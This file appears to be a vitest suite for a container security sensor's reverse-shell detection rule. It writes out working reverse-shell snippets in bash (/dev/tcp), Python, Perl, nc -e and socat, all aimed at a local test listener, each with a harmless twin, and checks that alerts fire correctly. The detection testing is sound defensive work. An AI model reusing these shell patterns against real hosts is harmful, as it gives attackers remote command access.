// SPDX-FileCopyrightText: Bartizan contributors
// SPDX-License-Identifier: Apache-2.0

import { type Attack, AttackStage } from '@bartizan/testkit/attack';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const RULE = 'runtime.reverse-shell';

/** Connects and starts a shell. The attack gives it the connection as input and output, the twin does not. */
const python = (isAttack: boolean): string =>
  [
    'import os, socket, subprocess, sys',
    'link = socket.create_connection(("127.0.0.1", int(sys.argv[1])))',
    ...(isAttack ? ['for end in (0, 1, 2): os.dup2(link.fileno(), end)'] : []),
    'subprocess.call(["/bin/sh", "-c", "id"])',
    '',
  ].join('\n');
const perl = (isAttack: boolean): string =>
  [
    'use Socket;',
    'socket(LINK, PF_INET, SOCK_STREAM, getprotobyname("tcp") || 6);',
    'connect(LINK, pack_sockaddr_in($ARGV[0], inet_aton("127.0.0.1"))) or die "no: $!";',
    ...(isAttack ? ['open(STDIN, "<&LINK"); open(STDOUT, ">&LINK"); open(STDERR, ">&LINK");'] : []),
    'system("/bin/sh", "-c", "id");',
    '',
  ].join('\n');
const bash = (isAttack: boolean): string =>
  ['exec 9<>/dev/tcp/127.0.0.1/$1', isAttack ? 'exec bash -c id <&9 >&9 2>&9' : 'exec bash -c id', ''].join(
    '\n',
  );

const stage = new AttackStage({
  rules: [RULE],
  files: {
    '/opt/attack.py': { text: python(true) },
    '/opt/twin.py': { text: python(false) },
    '/opt/attack.pl': { text: perl(true) },
    '/opt/twin.pl': { text: perl(false) },
    '/opt/attack.sh': { text: bash(true) },
    '/opt/twin.sh': { text: bash(false) },
  },
});

describe('a reverse shell in a container', () => {
  let port = '';
  beforeAll(async () => {
    await stage.start();
    port = String(await stage.listen());
  }, 180_000);
  afterAll(() => stage.close(), 60_000);

  const cases: readonly (readonly [string, () => Pick<Attack, 'attack' | 'twin'>, string])[] = [
    [
      'bash',
      () => ({ attack: ['/bin/bash', '/opt/attack.sh', port], twin: ['/bin/bash', '/opt/twin.sh', port] }),
      'bash',
    ],
    [
      'python',
      () => ({
        attack: ['/usr/bin/python3', '/opt/attack.py', port],
        twin: ['/usr/bin/python3', '/opt/twin.py', port],
      }),
      'dash',
    ],
    [
      'perl',
      () => ({
        attack: ['/usr/bin/perl', '/opt/attack.pl', port],
        twin: ['/usr/bin/perl', '/opt/twin.pl', port],
      }),
      'dash',
    ],
    [
      'nc -e',
      () => ({
        attack: ['/bin/nc', '127.0.0.1', port, '-e', '/bin/sh'],
        twin: ['/bin/nc', '127.0.0.1', port, '-e', '/bin/cat'],
      }),
      'dash',
    ],
    [
      'socat',
      () => ({
        attack: ['/usr/bin/socat', `tcp:127.0.0.1:${port}`, 'exec:/bin/sh'],
        twin: ['/usr/bin/socat', `tcp:127.0.0.1:${port}`, 'open:/dev/null'],
      }),
      'socat',
    ],
  ];

  it.each(cases)(
    'by %s raises one alert with its reasons, its twin none, and without the rule there is none',
    async (_name, plan, program) => {
      const { event, ofTwin, whenOff, seenAfterMs } = await stage.prove({ rule: RULE, ...plan() });
      if (event === undefined) throw new Error(`no event\n${await stage.report()}`);
      process.stdout.write(`reverse shell by ${program}: in the API after ${Math.round(seenAfterMs)} ms\n`);
      expect(event).toMatchObject({
        rule: RULE,
        severity: 'critical',
        source: 'sensor',
        workload: { container: 'victim' },
      });
      expect(event.id).toMatch(/^n-[0-9a-f]+:[0-9a-f-]+:security:\d+$/);
      expect(event.chain?.process.name).toBe(program);
      expect(event.owasp).toEqual({ 2022: ['K07'], 2025: ['K05'] });
      expect(event.attack).toContain('T1059.004');
      const [reason] = event.decision.reasons;
      expect(reason).toMatchObject({ rule: RULE, revision: expect.stringMatching(/^[0-9a-f]{64}$/) });
      const fields = reason?.comparisons.map(({ field, held }) => [field, held]);
      expect(fields).toEqual(
        program === 'socat'
          ? [
              ['process.name', true],
              ['process.command-line', true],
            ]
          : [
              ['process.name', true],
              ['stdio.in', true],
              ['stdio.out', true],
            ],
      );
      expect(ofTwin.map(({ message }) => message.en)).toEqual([]);
      expect(whenOff).toEqual([]);
      expect(seenAfterMs).toBeLessThan(5000);
    },
  );
});
